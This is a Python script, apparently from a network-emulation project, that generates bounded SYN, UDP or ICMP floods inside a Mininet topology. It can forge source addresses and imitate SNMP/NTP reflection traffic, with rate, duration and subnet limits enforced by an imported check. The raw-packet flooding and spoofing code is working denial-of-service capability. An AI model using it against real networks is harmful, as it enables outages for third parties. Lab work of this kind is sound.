"""A bounded flood generator for the Mininet topology: SYN, UDP or ICMP echo, optionally with forged sources.

Runs inside a Mininet host. Bounded on purpose: a rate (packets/s, at most
500,000), a duration (at most 120 s), a destination inside the topology's
subnet only, and never on an interface with a physical device behind it.

    python scripts/traffic/flood.py --iface a1-eth0 --dst 10.0.0.2 --dst-mac 00:00:00:00:00:02 \\
        --rate 50000 --duration 3 [--udp | --icmp] [--spoof]

--icmp sends echo requests (56 bytes of payload, like ping, one identifier, a sequence number
per packet, valid checksums, so the target answers them): a ping flood.

Through the uplink (run on the router r1, toward a LAN host), the sources are outside addresses:
--src-net PREFIX forges them inside one of the prefixes bounds.FORGEABLE allows, --sources N
draws them from a pool of N addresses (reflectors) instead of anew per packet, --sport fixes the
source port (a reflector's service: 161 SNMP, 123 NTP), --dport 0 picks a random destination port
per packet (where a reflection lands: the forged requests' source ports) and --payload sets the
UDP payload's size (reflected answers are large):

    python scripts/traffic/flood.py --iface r1-eth0 --dst 10.0.0.2 --dst-mac 00:00:00:00:00:02 --udp \\
        --src-net 203.0.113.0/24 --sources 200 --sport 161 --dport 0 --payload 468 --rate 10000 --duration 4

Prints one JSON line: packets sent, seconds, achieved rate.
"""
from __future__ import annotations

import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

from bounds import MAX_DURATION, MAX_RATE, check


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def echo_frames(src_mac: bytes, dst_mac: bytes, src_ip: str, dst_ip: str, count: int = 4096) -> list[bytes]:
    out = []
    payload = bytes(range(56))
    for seq in range(count):
        icmp = struct.pack("!BBHHH", 8, 0, 0, 0x1d2a, seq) + payload
        icmp = icmp[:2] + struct.pack("!H", _checksum(icmp)) + icmp[4:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(icmp), seq, 0x4000, 64, 1, 0,
                         socket.inet_aton(src_ip), socket.inet_aton(dst_ip))
        ip = ip[:10] + struct.pack("!H", _checksum(ip)) + ip[12:]
        out.append(dst_mac + src_mac + b"\x08\x00" + ip + icmp)
    return out


def frames(src_mac: bytes, dst_mac: bytes, src_ip: str, dst_ip: str, dport: int, udp: bool, spoof: bool,
           count: int = 4096, spoof_as: str | None = None, src_net: str | None = None, sources: int = 0,
           sport: int = 0, payload: int = 32) -> list[bytes]:
    rng = random.Random(1)
    out = []
    net = ipaddress.IPv4Network(src_net) if src_net else None
    if net is not None:   # forged inside the prefix (its network and broadcast addresses left out)
        hosts = max(1, net.num_addresses - 2)
        pool = [int(net.network_address) + 1 + rng.randrange(hosts) for _ in range(sources)] if sources else None
    for _ in range(count):
        if spoof_as:
            src = socket.inet_aton(spoof_as)
        elif net is not None:
            src = (pool[rng.randrange(len(pool))] if pool else
                   int(net.network_address) + 1 + rng.randrange(hosts)).to_bytes(4, "big")
        else:
            src = rng.getrandbits(32).to_bytes(4, "big") if spoof else socket.inet_aton(src_ip)
        source_port = sport or rng.randrange(1024, 65535)
        l4 = (struct.pack("!HHHH", source_port, dport or rng.randrange(1024, 65535), 8 + payload, 0)
              + bytes(payload) if udp
              else struct.pack("!HHIIBBHHH", source_port, dport or rng.randrange(1024, 65535),
                               rng.getrandbits(32), 0, 0x50, 0x02, 64240, 0, 0))
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0, 0, 64, 17 if udp else 6, 0, src,
                         socket.inet_aton(dst_ip))
        out.append(dst_mac + src_mac + b"\x08\x00" + ip + l4)
    return out


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--iface", required=True)
    parser.add_argument("--dst", required=True)
    parser.add_argument("--dst-mac", required=True)
    parser.add_argument("--dport", type=int, default=80, help="0: a random one per packet")
    parser.add_argument("--sport", type=int, default=0, help="a fixed source port (default: random per packet)")
    parser.add_argument("--payload", type=int, default=32, help="UDP payload bytes (at most 1400)")
    parser.add_argument("--src-net", help="forge sources inside this prefix (bounds.FORGEABLE only)")
    parser.add_argument("--sources", type=int, default=0, help="with --src-net: a pool of this many sources")
    parser.add_argument("--rate", type=int, required=True, help=f"packets/s, at most {MAX_RATE:,}")
    parser.add_argument("--duration", type=float, required=True, help=f"seconds, at most {MAX_DURATION:.0f}")
    parser.add_argument("--udp", action="store_true")
    parser.add_argument("--icmp", action="store_true", help="ICMP echo requests (a ping flood)")
    parser.add_argument("--spoof", action="store_true", help="forge a random IPv4 source per packet")
    parser.add_argument("--spoof-as", help="forge this one IPv4 source (e.g. an allowlisted host's)")
    args = parser.parse_args()
    check(parser, dst=args.dst, rate=args.rate, duration=args.duration, iface=args.iface, src_net=args.src_net)
    if not 0 <= args.payload <= 1400 or not 0 <= args.sport <= 65535 or not 0 <= args.dport <= 65535 \
            or not 0 <= args.sources <= 65536:
        parser.error("--payload 0-1400, --sport/--dport 0-65535, --sources 0-65536")
    if args.src_net and (args.spoof or args.spoof_as or args.icmp):
        parser.error("--src-net forges the sources already (not with --spoof, --spoof-as or --icmp)")
    with open(f"/sys/class/net/{args.iface}/address") as fh:
        src_mac = bytes.fromhex(fh.read().strip().replace(":", ""))
    own_ip = next((a for a in os.popen(f"ip -4 -o addr show {args.iface}").read().split() if "/" in a), "0.0.0.0/0")
    if args.icmp and (args.udp or args.spoof or args.spoof_as):
        parser.error("--icmp sends from the host's own address, and not with --udp")
    dst_mac = bytes.fromhex(args.dst_mac.replace(":", ""))
    batch = (echo_frames(src_mac, dst_mac, own_ip.split("/")[0], args.dst) if args.icmp else
             frames(src_mac, dst_mac, own_ip.split("/")[0], args.dst, args.dport, args.udp, args.spoof,
                    spoof_as=args.spoof_as, src_net=args.src_net, sources=args.sources, sport=args.sport,
                    payload=args.payload))
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((args.iface, 0))
    send = sock.send
    burst = max(1, min(256, args.rate // 1000))
    started_at = time.time()
    start = time.monotonic()
    sent = 0
    end = start + args.duration
    while True:
        now = time.monotonic()
        if now >= end:
            break
        due = int((now - start) * args.rate)
        if sent >= due:
            time.sleep(min(0.001, (sent + burst - due) / args.rate))
            continue
        for i in range(min(burst, due - sent)):
            try:
                send(batch[(sent + i) & 4095])
            except OSError:  # the interface queue is full: count it as not sent
                pass
        sent += min(burst, due - sent)
    elapsed = time.monotonic() - start
    print(json.dumps({"sent": sent, "seconds": round(elapsed, 3), "rate": round(sent / elapsed),
                      "started_at": started_at}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
